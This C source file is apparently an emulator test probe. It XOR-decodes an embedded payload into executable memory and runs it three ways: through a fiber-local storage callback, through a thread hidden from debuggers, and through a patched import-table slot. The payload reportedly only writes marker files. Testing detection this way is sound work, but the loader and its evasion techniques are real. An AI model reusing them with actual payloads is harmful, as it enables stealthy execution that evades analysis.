/*
 * loader.c - probe: three less watched ways to run a payload, each a copy XOR-decoded from this
 * program's data into RW memory and made RX (benign, emulator-only; see
 * ../../lineage-common/common.h):
 *   s1 the callback of a fiber-local storage slot: FlsAlloc(fn) + FlsSetValue(i, ctx) + FlsFree(i)
 *      (Windows calls fn(ctx) when the slot is freed)                          -> lineage_fls.txt
 *   s2 a thread hidden from debuggers: NtCreateThreadEx(..., fn, ctx,
 *      THREAD_CREATE_FLAGS_HIDE_FROM_DEBUGGER, ...) + WaitForSingleObject          -> lineage_hidden.txt
 *   s3 this program's own import address table: the lstrlenA slot pointed at fn (VirtualProtect
 *      RW, written, protection back), then lstrlenA((LPCSTR)ctx) calls it          -> lineage_iat.txt
 * Exit codes: 0 ok, 1 no marker, 3 memory, 4 FLS, 5 thread, 6 import table.
 */
#include "common.h"
#include "blobs.h" /* payload_enc[]: the payload XOR 0x95 */

typedef LONG (NTAPI *NtCreateThreadEx_t)(PHANDLE, ACCESS_MASK, PVOID, HANDLE, PVOID, PVOID, ULONG, SIZE_T, SIZE_T,
                                         SIZE_T, PVOID);
#define THREAD_CREATE_FLAGS_HIDE_FROM_DEBUGGER 0x4

static void *decode(void)
{
    DWORD i, old;
    unsigned char *code = (unsigned char *)VirtualAlloc(0, sizeof(payload_enc), MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code)
        ExitProcess(3);
    for (i = 0; i < sizeof(payload_enc); i++)
        code[i] = payload_enc[i] ^ 0x95;
    if (!VirtualProtect(code, sizeof(payload_enc), PAGE_EXECUTE_READ, &old))
        ExitProcess(3);
    return code;
}

static int patch_import(void *was, void *now)
{
    unsigned char *base = (unsigned char *)GetModuleHandleA(0);
    IMAGE_NT_HEADERS *nt = (IMAGE_NT_HEADERS *)(base + ((IMAGE_DOS_HEADER *)base)->e_lfanew);
    IMAGE_DATA_DIRECTORY *dir = &nt->OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_IMPORT];
    IMAGE_IMPORT_DESCRIPTOR *imp = (IMAGE_IMPORT_DESCRIPTOR *)(base + dir->VirtualAddress);
    DWORD old;
    for (; imp->Name; imp++) {
        ULONG_PTR *slot = (ULONG_PTR *)(base + imp->FirstThunk);
        for (; *slot; slot++) {
            if ((void *)*slot != was)
                continue;
            if (!VirtualProtect(slot, sizeof(*slot), PAGE_READWRITE, &old))
                return 0;
            *slot = (ULONG_PTR)now;
            VirtualProtect(slot, sizeof(*slot), old, &old);
            return 1;
        }
    }
    return 0;
}

void Entry(void)
{
    static struct sc_ctx c1, c2, c3;
    HANDLE thread = 0;
    NtCreateThreadEx_t create;
    DWORD slot;
    void *fn;

    if (!marker_present())
        ExitProcess(1);

    fill_ctx(&c1, "C:\\Users\\Public\\lineage_fls.txt", "ran as a fiber-local storage callback\n");
    fn = decode();
    slot = FlsAlloc((PFLS_CALLBACK_FUNCTION)fn);
    if (slot == FLS_OUT_OF_INDEXES || !FlsSetValue(slot, &c1) || !FlsFree(slot))
        ExitProcess(4);

    fill_ctx(&c2, "C:\\Users\\Public\\lineage_hidden.txt", "ran in a thread hidden from debuggers\n");
    fn = decode();
    create = (NtCreateThreadEx_t)(void *)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtCreateThreadEx");
    if (!create || create(&thread, THREAD_ALL_ACCESS, 0, GetCurrentProcess(), fn, &c2,
                          THREAD_CREATE_FLAGS_HIDE_FROM_DEBUGGER, 0, 0, 0, 0) != 0)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    CloseHandle(thread);

    fill_ctx(&c3, "C:\\Users\\Public\\lineage_iat.txt", "ran through a patched import slot\n");
    fn = decode();
    if (!patch_import((void *)GetProcAddress(GetModuleHandleA("kernel32.dll"), "lstrlenA"), fn))
        ExitProcess(6);
    lstrlenA((LPCSTR)&c3);
    ExitProcess(0);
}
